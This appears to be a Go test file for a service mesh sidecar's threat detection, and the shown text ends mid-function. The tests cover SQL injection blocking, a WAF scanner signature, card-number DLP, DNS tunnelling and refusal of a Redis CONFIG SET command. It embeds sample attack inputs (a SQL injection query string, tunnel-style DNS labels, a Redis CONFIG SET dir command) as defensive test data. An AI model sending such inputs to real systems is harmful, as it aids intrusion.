package sidecar

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/pcapgo"
	"github.com/jonboulle/clockwork"
	"github.com/miekg/dns"
	"github.com/prometheus/client_golang/prometheus"
	"github.com/spiffe/go-spiffe/v2/spiffeid"

	xdsv1 "github.com/meshguard/meshguard/api/xds/v1"
	mgcap "github.com/meshguard/meshguard/internal/capture"
	"github.com/meshguard/meshguard/internal/dpi"
	"github.com/meshguard/meshguard/internal/threat"
)

// threatPolicy: the sidecar's workload shop/redis is in group redis (mode and sensors set per
// test); web may reach it over HTTP on the app port.
const threatPolicy = `apiVersion: meshguard.io/v1alpha1
kind: Group
metadata: {name: redis, namespace: shop}
spec: {mode: %s%s}
---
apiVersion: meshguard.io/v1alpha1
kind: Group
metadata: {name: web, namespace: shop}
spec: {mode: discover}
---
apiVersion: meshguard.io/v1alpha1
kind: NetworkRule
metadata: {name: web-api, namespace: shop}
spec: {from: {group: web}, to: {group: redis}, ports: [tcp/%d], applications: [http], action: allow}
`

const captureRule = `---
apiVersion: meshguard.io/v1alpha1
kind: ResponseRule
metadata: {name: capture-sqli, namespace: shop}
spec: {match: {kind: threat, name: sqli}, actions: [capture]}
`

// fakeReporter collects threat events.
type fakeReporter struct {
	mu  sync.Mutex
	all []*xdsv1.ThreatEvent
	ch  chan *xdsv1.ThreatEvent
}

func newFakeReporter() *fakeReporter { return &fakeReporter{ch: make(chan *xdsv1.ThreatEvent, 256)} }

func (f *fakeReporter) Add(ev *xdsv1.ThreatEvent) {
	f.mu.Lock()
	f.all = append(f.all, ev)
	f.mu.Unlock()
	select {
	case f.ch <- ev:
	default:
	}
}

func (f *fakeReporter) events() []*xdsv1.ThreatEvent {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]*xdsv1.ThreatEvent(nil), f.all...)
}

// next waits for the next event named name.
func (f *fakeReporter) next(t *testing.T, name string) *xdsv1.ThreatEvent {
	t.Helper()
	timeout := time.After(5 * time.Second)
	for {
		select {
		case ev := <-f.ch:
			if ev.GetName() == name {
				return ev
			}
		case <-timeout:
			t.Fatalf("no %q threat event; got %v", name, f.events())
			return nil
		}
	}
}

// fakeUploader collects uploaded captures.
type fakeUploader struct {
	ch chan *xdsv1.UploadCaptureRequest
}

func (f *fakeUploader) UploadCapture(_ context.Context, r *xdsv1.UploadCaptureRequest) error {
	f.ch <- r
	return nil
}

type threatEnv struct {
	m        *mesh
	threats  *Threats
	reporter *fakeReporter
	uploads  *fakeUploader
	captures *mgcap.Manager
	reg      *prometheus.Registry
}

// newThreatEnv runs an inbound proxy for shop/redis with the policy pol in mode (the
// workload's effective mode), threat detection, capture and fake controller sinks.
func newThreatEnv(t *testing.T, pol string, mode xdsv1.PolicyMode, opts ...meshOpt) *threatEnv {
	t.Helper()
	view, index := enforceViewOf(t, pol)
	index().Snapshot().GetSelf().Mode = mode
	e := &threatEnv{reporter: newFakeReporter(), uploads: &fakeUploader{ch: make(chan *xdsv1.UploadCaptureRequest, 8)}, reg: prometheus.NewRegistry()}
	var err error
	e.captures, err = mgcap.New(mgcap.Config{Dir: t.TempDir(), Clock: clockwork.NewRealClock(), Log: quietLog(), After: 100 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	e.threats = newTestThreats(t, e.reporter, e.captures, e.uploads, e.reg)
	e.threats.Apply(index().Snapshot(), view.Load().pol.Set())
	eng, err := dpi.New(dpi.Config{Protocols: dpi.DefaultProtocols()})
	if err != nil {
		t.Fatal(err)
	}
	insp := CaptureInspector(e.captures, "shop/redis", e.threats.newConnID, nil, ThreatInspector(eng, view, index, e.threats))
	e.m = newMesh(t, append([]meshOpt{func(c *InboundConfig) {
		c.Admit = policyAdmitter(view, index)
		c.Inspect = insp
	}}, opts...)...)
	return e
}

func newTestThreats(t testing.TB, rep ThreatReporter, mgr *mgcap.Manager, up CaptureUploader, reg prometheus.Registerer) *Threats {
	t.Helper()
	th, err := NewThreats(ThreatsConfig{Workload: "shop/redis", Self: spiffeid.RequireFromString("spiffe://example.org/ns/shop/sa/redis"),
		Clock: clockwork.NewRealClock(), Log: quietLog(), Reporter: rep, Capture: mgr, Uploader: up, Metrics: reg})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { _ = th.Run(ctx); close(done) }()
	t.Cleanup(func() { cancel(); <-done })
	return th
}

// appServer is the app: it counts the requests that reach it and answers 200 "ok".
func appServer(t *testing.T) (port int, hits *atomic.Int32) {
	t.Helper()
	hits = &atomic.Int32{}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body)
		hits.Add(1)
		io.WriteString(w, "ok")
	}))
	t.Cleanup(srv.Close)
	return srv.Listener.Addr().(*net.TCPAddr).Port, hits
}

func (e *threatEnv) send(t *testing.T, port int, req string) string {
	t.Helper()
	s, err := e.m.client.Open(openCtx(t), e.m.peer, fmt.Sprintf(":%d", port))
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	got, _ := roundTrip(s, []byte(req))
	return string(got)
}

const sqliRequest = "GET /search?q=1%27%20OR%20%271%27%3D%271 HTTP/1.1\r\nHost: api\r\nConnection: close\r\n\r\n"

func TestThreatSQLiBlockedInProtect(t *testing.T) {
	port, hits := appServer(t)
	e := newThreatEnv(t, fmt.Sprintf(threatPolicy, "protect", "", port), xdsv1.PolicyMode_POLICY_MODE_PROTECT)
	got := e.send(t, port, sqliRequest)
	if !strings.HasPrefix(got, "HTTP/1.1 403 Forbidden") || !strings.Contains(got, "denied by meshguard: threat sqli (") {
		t.Fatalf("attack answered %q, want 403 naming the threat", got)
	}
	if hits.Load() != 0 {
		t.Fatal("the blocked request reached the app")
	}
	ev := e.reporter.next(t, "sqli")
	if ev.GetAction() != "block" || ev.GetMode() != "protect" || len(ev.GetEvidence()) == 0 || ev.GetSeverity() != "high" ||
		ev.GetCategory() != "injection" || ev.GetConnId() == "" || ev.GetSourceWorkload() != "shop/web" ||
		ev.GetDestinationWorkload() != "shop/redis" || ev.GetDestinationGroup() != "shop/redis" || ev.GetSourceGroup() != "shop/web" ||
		ev.GetSourceSpiffeId() != "spiffe://example.org/ns/shop/sa/web" || ev.GetProtocol() != "http" || ev.GetL7() != "GET /search" {
		t.Fatalf("event %v", ev)
	}
	rep := e.m.reports.next(t)
	if rep.Verdict != "deny" || !strings.Contains(rep.Decision, "threat sqli") {
		t.Fatalf("connection report %+v", rep)
	}
	if n := counterValue(t, e.reg, "meshguard_sidecar_threats_total", map[string]string{"name": "sqli", "action": "block"}); n != 1 {
		t.Fatalf("meshguard_sidecar_threats_total{sqli,block} = %v", n)
	}
}

func TestThreatHTTP2QueryInspected(t *testing.T) {
	var hits atomic.Int32
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		io.WriteString(w, "ok")
	}), Protocols: new(http.Protocols)}
	srv.Protocols.SetUnencryptedHTTP2(true)
	ln := listenLocal(t)
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { srv.Close() })
	port := ln.Addr().(*net.TCPAddr).Port
	// Plaintext from an unknown source: the policy (monitor) lets it in, the workload's
	// effective mode (protect, in the snapshot) blocks threats.
	e := newThreatEnv(t, fmt.Sprintf(threatPolicy, "monitor", "", port), xdsv1.PolicyMode_POLICY_MODE_PROTECT, func(c *InboundConfig) {
		c.Mode = Permissive
		c.OriginalDst = func(*net.TCPConn) (netip.AddrPort, error) {
			return netip.AddrPortFrom(netip.MustParseAddr("10.0.0.2"), uint16(port)), nil
		}
	})
	tr := &http.Transport{Protocols: new(http.Protocols)}
	tr.Protocols.SetUnencryptedHTTP2(true)
	tr.DialContext = func(ctx context.Context, network, _ string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, network, e.m.plain.Addr().String())
	}
	t.Cleanup(tr.CloseIdleConnections)
	cl := &http.Client{Transport: tr, Timeout: 10 * time.Second}
	if resp, err := cl.Get("http://app/search?q=shoes"); err != nil || resp.StatusCode != 200 {
		t.Fatalf("benign h2 request: %v %v", resp, err)
	} else {
		resp.Body.Close()
	}
	// The attack's stream alone is refused with a 403 naming the threat; the connection lives on.
	resp, err := cl.Get("http://app/search?q=1%27%20OR%20%271%27%3D%271")
	if err != nil {
		t.Fatalf("h2 attack: %v, want a 403 on its own stream", err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden || !strings.Contains(string(body), "threat sqli") {
		t.Fatalf("h2 attack answered %d %q, want 403 naming sqli", resp.StatusCode, body)
	}
	if resp, err := cl.Get("http://app/search?q=boots"); err != nil || resp.StatusCode != 200 {
		t.Fatalf("benign h2 request after the refusal: %v %v", resp, err)
	} else {
		resp.Body.Close()
	}
	if ev := e.reporter.next(t, "sqli"); ev.GetProtocol() != "http2" || ev.GetAction() != "block" || ev.GetL7() != "GET /search" {
		t.Fatalf("event %v", ev)
	}
	if hits.Load() != 2 {
		t.Fatalf("app saw %d requests, want only the two benign ones", hits.Load())
	}
}

func TestThreatSQLiAlertInMonitor(t *testing.T) {
	port, hits := appServer(t)
	e := newThreatEnv(t, fmt.Sprintf(threatPolicy, "monitor", "", port), xdsv1.PolicyMode_POLICY_MODE_MONITOR)
	if got := e.send(t, port, sqliRequest); !strings.HasPrefix(got, "HTTP/1.1 200") {
		t.Fatalf("monitor mode answered %q", got)
	}
	if hits.Load() != 1 {
		t.Fatalf("app saw %d requests", hits.Load())
	}
	if ev := e.reporter.next(t, "sqli"); ev.GetAction() != "alert" || ev.GetMode() != "monitor" {
		t.Fatalf("event %v", ev)
	}
}

func TestThreatBenignRESTPasses(t *testing.T) {
	port, hits := appServer(t)
	e := newThreatEnv(t, fmt.Sprintf(threatPolicy, "protect", "", port), xdsv1.PolicyMode_POLICY_MODE_PROTECT)
	json := `{"name":"O'Brien","bio":"Loves SQL, select-ing wines & cheese; 100% organic","tags":["a","b"],"price":12.5}`
	mp := "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nMy holiday\r\n--XyZ\r\n" +
		"Content-Disposition: form-data; name=\"file\"; filename=\"photo.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0binary\r\n--XyZ--\r\n"
	reqs := []string{
		"PUT /api/users/42 HTTP/1.1\r\nHost: api\r\nContent-Type: application/json\r\nContent-Length: " + fmt.Sprint(len(json)) + "\r\nConnection: close\r\n\r\n" + json,
		"PATCH /api/users/42 HTTP/1.1\r\nHost: api\r\nContent-Type: application/merge-patch+json\r\nContent-Length: 17\r\nConnection: close\r\n\r\n{\"active\":false}\n",
		"DELETE /api/users/42 HTTP/1.1\r\nHost: api\r\nConnection: close\r\n\r\n",
		"POST /upload HTTP/1.1\r\nHost: api\r\nContent-Type: multipart/form-data; boundary=XyZ\r\nContent-Length: " + fmt.Sprint(len(mp)) + "\r\nConnection: close\r\n\r\n" + mp,
		"GET /search?q=rock+%26+roll&page=2 HTTP/1.1\r\nHost: api\r\nConnection: close\r\n\r\n",
		"POST /api/items HTTP/1.1\r\nHost: api\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n5\r\n{\"a\":\r\n3\r\n 1}\r\n0\r\n\r\n",
	}
	for _, r := range reqs {
		if got := e.send(t, port, r); !strings.HasPrefix(got, "HTTP/1.1 200") {
			t.Errorf("%q answered %q", r[:strings.IndexByte(r, '\r')], got)
		}
	}
	if hits.Load() != int32(len(reqs)) {
		t.Fatalf("app saw %d of %d requests", hits.Load(), len(reqs))
	}
	if evs := e.reporter.events(); len(evs) != 0 {
		t.Fatalf("benign traffic raised %v", evs)
	}
}

func TestThreatWAFSensorBlocks(t *testing.T) {
	port, hits := appServer(t)
	// Monitor mode: the built-ins only alert; the sensor's own action blocks.
	e := newThreatEnv(t, fmt.Sprintf(threatPolicy, "monitor", ", sensors: {waf: {paranoiaLevel: 1, action: block}}", port), xdsv1.PolicyMode_POLICY_MODE_MONITOR)
	// A vulnerability scanner's user agent: the CRS knows it, the built-in detectors do not.
	got := e.send(t, port, "GET /index.php HTTP/1.1\r\nHost: api\r\nUser-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)\r\nAccept: */*\r\nConnection: close\r\n\r\n")
	if !strings.HasPrefix(got, "HTTP/1.1 403") || !strings.Contains(got, "threat waf") {
		t.Fatalf("scanner answered %q", got)
	}
	if hits.Load() != 0 {
		t.Fatal("blocked request reached the app")
	}
	ev := e.reporter.next(t, "waf")
	if ev.GetAction() != "block" || ev.GetSensorAction() != "block" || ev.GetCategory() != "waf" || ev.GetDestinationGroup() != "shop/redis" {
		t.Fatalf("event %v", ev)
	}
	for _, x := range e.reporter.events() {
		if x.GetName() != "waf" {
			t.Fatalf("built-in detector fired on the scanner request: %v", x)
		}
	}
}

func TestThreatDLPFindsCard(t *testing.T) {
	port, hits := appServer(t)
	e := newThreatEnv(t, fmt.Sprintf(threatPolicy, "protect", ", sensors: {dlp: {patterns: [credit-card], action: alert}}", port), xdsv1.PolicyMode_POLICY_MODE_PROTECT)
	body := `{"order":17,"card":"4111 1111 1111 1111","name":"Ann"}`
	got := e.send(t, port, "POST /pay HTTP/1.1\r\nHost: api\r\nContent-Type: application/json\r\nContent-Length: "+fmt.Sprint(len(body))+"\r\nConnection: close\r\n\r\n"+body)
	if !strings.HasPrefix(got, "HTTP/1.1 200") || hits.Load() != 1 {
		t.Fatalf("alert-only DLP answered %q", got)
	}
	ev := e.reporter.next(t, "dlp")
	if ev.GetAction() != "alert" || ev.GetSensorAction() != "alert" || !strings.HasSuffix(string(ev.GetEvidence()), "1111") ||
		strings.Contains(string(ev.GetEvidence()), "4111 1111") || !strings.Contains(ev.GetReason(), "credit-card") {
		t.Fatalf("event %v", ev)
	}
}

func TestThreatCaptureUploadsAttack(t *testing.T) {
	port, _ := appServer(t)
	e := newThreatEnv(t, fmt.Sprintf(threatPolicy, "protect", "", port)+captureRule, xdsv1.PolicyMode_POLICY_MODE_PROTECT)
	if got := e.send(t, port, sqliRequest); !strings.HasPrefix(got, "HTTP/1.1 403") {
		t.Fatalf("attack answered %q", got)
	}
	ev := e.reporter.next(t, "sqli")
	if ev.GetCaptureRef() == "" || !mgcap.ValidID(ev.GetCaptureRef()) {
		t.Fatalf("event without capture ref: %v", ev)
	}
	var up *xdsv1.UploadCaptureRequest
	select {
	case up = <-e.uploads.ch:
	case <-time.After(10 * time.Second):
		t.Fatal("capture not uploaded")
	}
	if up.GetCaptureId() != ev.GetCaptureRef() || up.GetReason() != "sqli" || len(up.GetConnIds()) != 1 || up.GetConnIds()[0] != ev.GetConnId() ||
		up.GetConnections() != 1 || up.GetRequestId() != "" || up.GetCreatedUnixNano() == 0 {
		t.Fatalf("upload %v", up)
	}
	attack := strings.TrimSuffix(strings.SplitN(sqliRequest, "\r\n", 2)[0], " HTTP/1.1")
	if !bytes.Contains(pcapPayload(t, up.GetPcap()), []byte(attack)) {
		t.Fatalf("pcap does not hold the attack request %q", attack)
	}
	if tshark, err := exec.LookPath("tshark"); err == nil {
		f := filepath.Join(t.TempDir(), "c.pcap")
		if err := os.WriteFile(f, up.GetPcap(), 0o600); err != nil {
			t.Fatal(err)
		}
		out, err := exec.Command(tshark, "-r", f, "-Y", "http.request", "-T", "fields", "-e", "http.request.uri").CombinedOutput()
		if err != nil || !strings.Contains(string(out), "/search?q=1%27%20OR") {
			t.Fatalf("tshark: %v\n%s", err, out)
		}
	}
}

func counterValue(t *testing.T, reg *prometheus.Registry, name string, labels map[string]string) float64 {
	t.Helper()
	mfs, err := reg.Gather()
	if err != nil {
		t.Fatal(err)
	}
	for _, mf := range mfs {
		if mf.GetName() != name {
			continue
		}
	metrics:
		for _, m := range mf.GetMetric() {
			for _, lp := range m.GetLabel() {
				if labels[lp.GetName()] != lp.GetValue() {
					continue metrics
				}
			}
			return m.GetCounter().GetValue()
		}
	}
	return 0
}

func bufioReader(r io.Reader) *bufio.Reader { return bufio.NewReader(r) }

func threatFlood(burst float64) threat.FloodConfig {
	return threat.FloodConfig{ConnRate: 1, ConnBurst: burst}
}

// pcapPayload concatenates the transport payloads of a pcap.
func pcapPayload(t *testing.T, b []byte) []byte {
	t.Helper()
	r, err := pcapgo.NewReader(bytes.NewReader(b))
	if err != nil {
		t.Fatalf("pcap: %v", err)
	}
	var out []byte
	for {
		data, _, err := r.ReadPacketData()
		if err != nil {
			break
		}
		p := gopacket.NewPacket(data, r.LinkType(), gopacket.Default)
		if a := p.ApplicationLayer(); a != nil {
			out = append(out, a.Payload()...)
		}
	}
	return out
}

func TestHTTPFramer(t *testing.T) {
	get := "GET /a HTTP/1.1\r\nHost: x\r\n\r\n"
	post := "POST /b HTTP/1.1\r\nContent-Length: 5\r\n\r\nhello"
	chunked := "POST /c HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n3;x=1\r\nabc\r\n0\r\nT: v\r\n\r\n"
	stream := get + post + chunked + get
	for _, step := range []int{1, 2, 7, len(stream)} {
		var f httpFramer
		var got []string
		for i := 0; i < len(stream); i += step {
			f.feed([]byte(stream[i:min(i+step, len(stream))]), func(raw []byte, trunc bool) {
				if trunc {
					t.Errorf("step %d: truncated %q", step, raw)
				}
				got = append(got, string(raw))
			})
		}
		want := []string{get, post, chunked, get}
		if fmt.Sprint(got) != fmt.Sprint(want) {
			t.Errorf("step %d: requests %q, want %q", step, got, want)
		}
	}
	// A long body is handed over once, at the bound, and the next request is still found.
	big := "POST /big HTTP/1.1\r\nContent-Length: 100000\r\n\r\n" + strings.Repeat("x", 100000)
	var f httpFramer
	var sizes []int
	var truncs []bool
	s := big + get
	for i := 0; i < len(s); i += 32 << 10 {
		f.feed([]byte(s[i:min(i+32<<10, len(s))]), func(raw []byte, trunc bool) {
			sizes, truncs = append(sizes, len(raw)), append(truncs, trunc)
		})
	}
	if len(sizes) != 2 || !truncs[0] || truncs[1] || sizes[0] != len(big)-100000+maxThreatBody || sizes[1] != len(get) {
		t.Fatalf("sizes %v truncated %v", sizes, truncs)
	}
	// An upgrade ends HTTP framing: websocket frames are not requests.
	var up httpFramer
	n := 0
	up.feed([]byte("GET /ws HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n\x81\x85garbage"), func([]byte, bool) { n++ })
	if n != 1 || !up.off {
		t.Fatalf("upgrade: %d requests, off=%v", n, up.off)
	}
}

func FuzzHTTPFramer(f *testing.F) {
	f.Add([]byte("GET / HTTP/1.1\r\n\r\nPOST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nZ\r\n"), 3)
	f.Add([]byte("POST / HTTP/1.1\r\nContent-Length: 3\r\n\r\nabcGET"), 1)
	f.Fuzz(func(t *testing.T, b []byte, step int) {
		if step <= 0 || step > len(b)+1 {
			step = len(b) + 1
		}
		var fr httpFramer
		for i := 0; i < len(b); i += step {
			fr.feed(b[i:min(i+step, len(b))], func(raw []byte, _ bool) {
				if len(raw) > maxThreatHead+maxThreatBody+4 {
					t.Fatalf("request of %d bytes kept", len(raw))
				}
			})
		}
	})
}

// dnsUpstream answers every query with NXDOMAIN on loopback UDP.
func dnsUpstream(t *testing.T) (addr string, queries *atomic.Int32) {
	t.Helper()
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	queries = &atomic.Int32{}
	srv := &dns.Server{PacketConn: pc, Handler: dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
		queries.Add(1)
		m := new(dns.Msg)
		m.SetRcode(q, dns.RcodeNameError)
		_ = w.WriteMsg(m)
	})}
	startDNS(t, srv)
	return pc.LocalAddr().String(), queries
}

func startDNS(t *testing.T, srv *dns.Server) {
	t.Helper()
	up := make(chan struct{})
	srv.NotifyStartedFunc = func() { close(up) }
	errc := make(chan error, 1)
	go func() { errc <- srv.ActivateAndServe() }()
	select {
	case <-up:
	case err := <-errc:
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = srv.Shutdown() })
}

func TestDNSProxyTunnelRefusedAndCaptured(t *testing.T) {
	upstream, queries := dnsUpstream(t)
	pol := `apiVersion: meshguard.io/v1alpha1
kind: Group
metadata: {name: redis, namespace: shop}
spec: {mode: protect}
---
apiVersion: meshguard.io/v1alpha1
kind: ResponseRule
metadata: {name: tunnel, namespace: shop}
spec: {match: {kind: threat, name: dns-tunnel}, actions: [capture]}
`
	view, index := enforceViewOf(t, pol)
	index().Snapshot().GetSelf().Mode = xdsv1.PolicyMode_POLICY_MODE_PROTECT
	rep := newFakeReporter()
	ups := &fakeUploader{ch: make(chan *xdsv1.UploadCaptureRequest, 4)}
	mgr, err := mgcap.New(mgcap.Config{Dir: t.TempDir(), Clock: clockwork.NewRealClock(), Log: quietLog(), After: 100 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	th := newTestThreats(t, rep, mgr, ups, prometheus.NewRegistry())
	th.Apply(index().Snapshot(), view.Load().pol.Set())
	eng, err := dpi.New(dpi.Config{Protocols: dpi.DefaultProtocols()})
	if err != nil {
		t.Fatal(err)
	}
	reports := newReports()
	in := &dnsInspection{eng: eng, self: th.cfg.Self, report: reports.add, threats: th, recs: newDNSRecorders(mgr, "shop/redis", upstream, th.newConnID)}
	t.Cleanup(in.recs.close)
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	startDNS(t, &dns.Server{PacketConn: pc, Handler: in.handler(&dns.Client{Net: "udp", Timeout: 2 * time.Second}, upstream, quietLog())})

	c := &dns.Client{Net: "udp", Timeout: 2 * time.Second}
	conn, err := c.Dial(pc.LocalAddr().String()) // one socket, like a tunnel client
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	ask := func(name string, qt uint16) int {
		t.Helper()
		m := new(dns.Msg)
		m.SetQuestion(name, qt)
		r, _, err := c.ExchangeWithConn(m, conn)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		return r.Rcode
	}
	if rc := ask("api.shop.svc.cluster.local.", dns.TypeA); rc != dns.RcodeNameError {
		t.Fatalf("benign query answered %s", dns.RcodeToString[rc])
	}
	labels := []string{
		"mzxw6ytboi3dqnzrgy2tmmjvgqytqmzyha4dgnbrgu4dsmbtg4ydkobq", "nbswy3dpeb3w64tmmqqho33snrscc4dbovrgk3tsmvzxizlsgq2tmnzy",
		"gezdgnbvgy3tqojqgezdgnbvgy3tqojqgezdgnbvgy3tqojqmfrggzde", "onxw2zjamrqxiyjaon2ws3damfzsaytbonstmnbamvxgg33emvsa4ytd",
		"ovzgk4tomfwwkidqmfzxg53pojsca2lmnrswg2lbnrzsa3dvnbxw2ylk", "kruguidrovuwg2zamjzg65ooebtg66balfuw24dtebxxmzlsea2ddzbk",
		"mfrgg3dpnz2c2ylorrzwk3tdmvsgk3tumvzhkzlsmvzc2ytbonswm33v", "gu3dmnzyhe3dmnzygu3dmnzyhe3dmnzygu3dmnzyhe3dmnzygu3dmnzy",
	}
	refused := 0
	for i, l := range labels {
		if ask(fmt.Sprintf("%s.%d.t1.tunnel-example.com.", l, i), dns.TypeTXT) == dns.RcodeRefused {
			refused++
		}
	}
	ev := rep.next(t, "dns-tunnel")
	if ev.GetAction() != "block" || ev.GetSourceWorkload() != "shop/redis" || ev.GetSourceGroup() != "shop/redis" ||
		ev.GetProtocol() != "dns" || ev.GetCaptureRef() == "" || ev.GetDestinationAddr() != upstream {
		t.Fatalf("event %v", ev)
	}
	if refused == 0 {
		t.Fatal("no tunnel query was refused in protect mode")
	}
	if int(queries.Load()) != 1+len(labels)-refused {
		t.Fatalf("upstream saw %d queries; refused ones must not be forwarded (%d refused of %d)", queries.Load(), refused, len(labels))
	}
	var up *xdsv1.UploadCaptureRequest
	select {
	case up = <-ups.ch:
	case <-time.After(10 * time.Second):
		t.Fatal("dns capture not uploaded")
	}
	payload := pcapPayload(t, up.GetPcap())
	if !bytes.Contains(bytes.ToLower(payload), []byte(labels[0])) {
		t.Fatalf("capture %s does not hold the tunnel queries (%d payload bytes)", up.GetCaptureId(), len(payload))
	}
	// Each exchange is still reported as DNS.
	if r := reports.next(t); r.AppProtocol != "dns" {
		t.Fatalf("dns report %+v", r)
	}
}

// BenchmarkThreatInspection is the per-request cost of inspecting an inbound HTTP/1 request:
// the policy and DPI only (none), plus the built-in detectors (builtin), plus the WAF sensor
// (waf), for a GET, a 1 KB form POST and a 100 KB JSON body.
func BenchmarkThreatInspection(b *testing.B) {
	form := "name=" + strings.Repeat("Ann+O%27Brien+", 60) + "&city=Paris&zip=75001&comment=" + strings.Repeat("nice+", 60)
	form = form[:1024]
	var js strings.Builder
	js.WriteString(`{"items":[`)
	for i := 0; js.Len() < 100<<10-64; i++ {
		if i > 0 {
			js.WriteByte(',')
		}
		fmt.Fprintf(&js, `{"id":%d,"name":"item %d","price":%d.5,"tags":["red","blue"]}`, i, i, i%100)
	}
	js.WriteString(`]}`)
	reqs := []struct{ name, raw string }{
		{"GET", "GET /api/items?page=2&sort=name HTTP/1.1\r\nHost: api\r\nUser-Agent: bench/1.0\r\nAccept: application/json\r\n\r\n"},
		{"form1KB", "POST /profile HTTP/1.1\r\nHost: api\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1024\r\n\r\n" + form},
		{"json100KB", "POST /api/items HTTP/1.1\r\nHost: api\r\nContent-Type: application/json\r\nContent-Length: " + fmt.Sprint(js.Len()) + "\r\n\r\n" + js.String()},
	}
	for _, mode := range []string{"none", "builtin", "waf"} {
		sensors := ""
		if mode == "waf" {
			sensors = ", sensors: {waf: {paranoiaLevel: 1}}"
		}
		view, index := enforceViewOf(b, fmt.Sprintf(threatPolicy, "protect", sensors, 8080))
		eng, err := dpi.New(dpi.Config{Protocols: dpi.DefaultProtocols()})
		if err != nil {
			b.Fatal(err)
		}
		var th *Threats
		if mode != "none" {
			th = newTestThreats(b, nil, nil, nil, nil)
			th.Apply(index().Snapshot(), view.Load().pol.Set())
		}
		insp := ThreatInspector(eng, view, index, th)
		for _, r := range reqs {
			b.Run(r.name+"/"+mode, func(b *testing.B) {
				benchRequests(b, insp, []byte(r.raw))
			})
		}
	}
}

func benchRequests(b *testing.B, insp Inspector, raw []byte) {
	o := fromWeb(insp, 8080)
	defer o.Close()
	b.ReportAllocs()
	b.SetBytes(int64(len(raw)))
	for b.Loop() {
		for p := raw; len(p) > 0; {
			n := min(len(p), copyBufSize)
			if err := o.FromClient(p[:n]); err != nil {
				b.Fatal(err)
			}
			p = p[n:]
		}
	}
}

func TestThreatRedisDangerousCommandRefused(t *testing.T) {
	port := startRedis(t)
	pol := strings.Replace(fmt.Sprintf(threatPolicy, "protect", "", port), "applications: [http]", "applications: [redis]", 1)
	e := newThreatEnv(t, pol, xdsv1.PolicyMode_POLICY_MODE_PROTECT)
	s, err := e.m.client.Open(openCtx(t), e.m.peer, fmt.Sprintf(":%d", port))
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	r := bufioReader(s)
	cmd := func(args ...string) string {
		t.Helper()
		var b strings.Builder
		fmt.Fprintf(&b, "*%d\r\n", len(args))
		for _, a := range args {
			fmt.Fprintf(&b, "$%d\r\n%s\r\n", len(a), a)
		}
		if _, err := io.WriteString(s, b.String()); err != nil {
			t.Fatalf("%v: %v", args, err)
		}
		line, err := r.ReadString('\n')
		if err != nil {
			t.Fatalf("%v: %v", args, err)
		}
		return line
	}
	if got := cmd("SET", "k", "v"); got != "+OK\r\n" {
		t.Fatalf("SET: %q", got)
	}
	if got := cmd("CONFIG", "SET", "dir", "/tmp"); !strings.HasPrefix(got, "-ERR denied by meshguard: threat redis-dangerous-command") {
		t.Fatalf("CONFIG SET answered %q", got)
	}
	if got := cmd("PING"); got != "+PONG\r\n" {
		t.Fatalf("the connection did not survive the refused command: %q", got)
	}
	if ev := e.reporter.next(t, "redis-dangerous-command"); ev.GetAction() != "block" || ev.GetProtocol() != "redis" || ev.GetL7() != "CONFIG" {
		t.Fatalf("event %v", ev)
	}
}

func TestThreatRedisAdminAllowedByRule(t *testing.T) {
	port := startRedis(t)
	pol := strings.Replace(fmt.Sprintf(threatPolicy, "protect", "", port), "applications: [http], action: allow}",
		"applications: [redis], action: allow, l7: {redis: {allowCommands: [CONFIG, PING]}}}", 1)
	e := newThreatEnv(t, pol, xdsv1.PolicyMode_POLICY_MODE_PROTECT)
	s, err := e.m.client.Open(openCtx(t), e.m.peer, fmt.Sprintf(":%d", port))
	if err != nil {
		t.Fatal(err)
	}
	got, _ := roundTrip(s, []byte("*3\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n$4\r\nport\r\n*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$10\r\nmaxclients\r\n$3\r\n500\r\n"))
	if !strings.Contains(string(got), "+OK") || strings.Contains(string(got), "denied") {
		t.Fatalf("explicitly allowed CONFIG SET answered %q", got)
	}
	if evs := e.reporter.events(); len(evs) != 0 {
		t.Fatalf("allowed admin command raised %v", evs)
	}
}

func TestThreatConnectionFlood(t *testing.T) {
	view, index := enforceViewOf(t, fmt.Sprintf(threatPolicy, "protect", "", 8080))
	index().Snapshot().GetSelf().Mode = xdsv1.PolicyMode_POLICY_MODE_PROTECT
	rep := newFakeReporter()
	clk := clockwork.NewFakeClock()
	th, err := NewThreats(ThreatsConfig{Workload: "shop/redis", Clock: clk, Log: quietLog(), Reporter: rep,
		Flood: threatFlood(2)})
